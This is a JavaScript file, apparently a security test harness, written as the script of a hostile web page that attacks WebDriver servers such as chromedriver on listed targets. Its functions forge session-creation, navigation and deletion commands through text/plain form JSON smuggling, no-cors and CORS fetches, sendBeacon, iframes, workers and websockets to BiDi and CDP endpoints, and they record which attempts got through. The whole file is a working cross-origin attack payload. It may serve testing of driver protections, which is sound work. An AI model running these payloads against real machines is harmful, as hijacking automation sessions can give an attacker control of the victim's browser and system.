// The classic: a text/plain form whose name and value make JSON of the equals sign between them.
const commandForm = (action, target) => {
  const form = Object.assign(document.createElement('form'), { method: 'post', enctype: 'text/plain', action, target });
  const name = '{"capabilities":{"alwaysMatch":{"browserName":"chrome"}},"url":"data:text/html,taken","x":"';
  form.append(Object.assign(document.createElement('input'), { name, value: '"}' }));
  document.body.append(form);
  form.submit();
};

// Windows of its own, each at a server that it should not reach: whether one answered there is read from outside.
globalThis.openWindows = (targets, sessionId) => {
  for (const target of targets) {
    open(`http://${target}/status`);
    open('about:blank').location.href = `http://${target}/status`;
    commandForm(`http://${target}/session`, '_blank');
    commandForm(`http://${target}/session/${sessionId}/url`, '_blank');
  }
};

// What a page can do to reach a server that it should not: run in the hostile page, by its own scripts.
globalThis.attack = async (targets, sessionId) => {
  const results = [];
  const got = (means, url) => results.push(`${means} ${url}`);
  const within = (promise, ms = 4000) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ms))]);
  const newSession = JSON.stringify({ capabilities: { alwaysMatch: { browserName: 'chrome' } } });
  const navigate = JSON.stringify({ url: 'data:text/html,taken' });
  const paths = ['/status', '/session', `/session/${sessionId}/url`];

  const tryFetch = (origin) =>
    paths.flatMap((path) => [
      within(
        fetch(origin + path, { mode: 'no-cors' }).then(
          () => got('fetch', origin + path),
          () => {},
        ),
      ),
      within(
        fetch(origin + path, {
          mode: 'no-cors',
          method: 'POST',
          headers: { 'content-type': 'text/plain' },
          body: path === '/session' ? newSession : navigate,
        }).then(
          () => got('post', origin + path),
          () => {},
        ),
      ),
      within(
        fetch(origin + path, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: newSession,
        }).then(
          () => got('cors', origin + path),
          () => {},
        ),
      ),
      within(
        fetch(origin + `/session/${sessionId}`, { method: 'DELETE' }).then(
          () => got('delete', origin),
          () => {},
        ),
      ),
    ]);
  const tryElement = (tag, attribute, url) =>
    within(
      new Promise((resolve) => {
        const element = document.createElement(tag);
        element.onload = () => {
          got(tag, url);
          resolve();
        };
        element.onerror = resolve;
        element[attribute] = url;
        document.head.append(element);
      }),
    );
  const trySocket = (url) =>
    within(
      new Promise((resolve) => {
        try {
          const socket = new WebSocket(url);
          socket.onopen = () => {
            got('websocket', url);
            socket.close();
            resolve();
          };
          socket.onerror = resolve;
        } catch {
          resolve();
        }
      }),
    );
  const tryForm = (origin) =>
    paths.map((path) => {
      const frame = document.createElement('iframe');
      frame.name = `f${Math.random()}`;
      document.body.append(frame);
      commandForm(origin + path, frame.name);
    });
  const tryFrame = (url) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
  };
  const tryWorker = (origin) =>
    within(
      new Promise((resolve) => {
        const source = `fetch(${JSON.stringify(`${origin}/status`)}, {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))`;
        const worker = new Worker(URL.createObjectURL(new Blob([source])));
        worker.onmessage = ({ data }) => {
          if (data) got('worker', origin);
          resolve();
        };
      }),
    );

  const attackOne = async (target) => {
    const origin = `http://${target}`;
    tryForm(origin);
    tryFrame(`${origin}/status`);
    navigator.sendBeacon(`${origin}/session`, newSession);
    const prefetch = Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${origin}/status` });
    document.head.append(prefetch);
    await Promise.all([
      ...tryFetch(origin),
      tryElement('img', 'src', `${origin}/favicon.ico`),
      tryElement('script', 'src', `${origin}/status`),
      trySocket(`ws://${target}/session/${sessionId}`),
      trySocket(`ws://${target}/session/${sessionId}/se/bidi`),
      trySocket(`ws://${target}/session/${sessionId}/se/cdp`),
      tryWorker(origin),
    ]);
    for (const element of document.querySelectorAll('iframe, form')) element.remove();
  };
  for (let at = 0; at < targets.length; at += 8) await Promise.all(targets.slice(at, at + 8).map(attackOne));
  return results;
};
